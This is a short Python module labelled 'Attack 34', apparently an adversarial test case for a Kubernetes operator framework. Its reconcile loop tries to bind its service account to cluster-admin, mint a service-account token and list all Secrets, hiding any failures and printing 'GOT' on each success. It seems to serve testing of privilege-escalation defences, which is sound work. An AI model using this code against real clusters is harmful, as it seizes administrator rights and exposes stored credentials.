"""Attack 34: take more rights: bind the administrator's role, mint tokens, read what is not ours."""

import contextlib

from converge.operators.webapp import WEBAPP
from converge.runtime import ApiError, Manager, Poll

RBAC = "rbac.authorization.k8s.io"


def reconcile(client, request):
    subject = {"kind": "ServiceAccount", "name": "operator", "namespace": request.namespace}
    admin = {"apiGroup": RBAC, "kind": "ClusterRole", "name": "cluster-admin"}
    token = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}}
    for kind, namespace in (("ClusterRoleBinding", None), ("RoleBinding", request.namespace)):
        with contextlib.suppress(ApiError):
            metadata = {"name": f"more-{request.name}", **({"namespace": namespace} if namespace else {})}
            binding = {"apiVersion": f"{RBAC}/v1", "kind": kind, "metadata": metadata}
            client.create({**binding, "roleRef": admin, "subjects": [subject]})
            print("GOT", kind)
    with contextlib.suppress(ApiError):
        metadata = {"name": "operator", "namespace": request.namespace}
        client.create({**token, "metadata": metadata}, subresource="token", name="operator")
        print("GOT token")
    with contextlib.suppress(ApiError):
        client.list("v1", "Secret")
        print("GOT secrets")


def setup(manager: Manager) -> None:
    manager.add(Poll(*WEBAPP, reconcile, every=0.5))
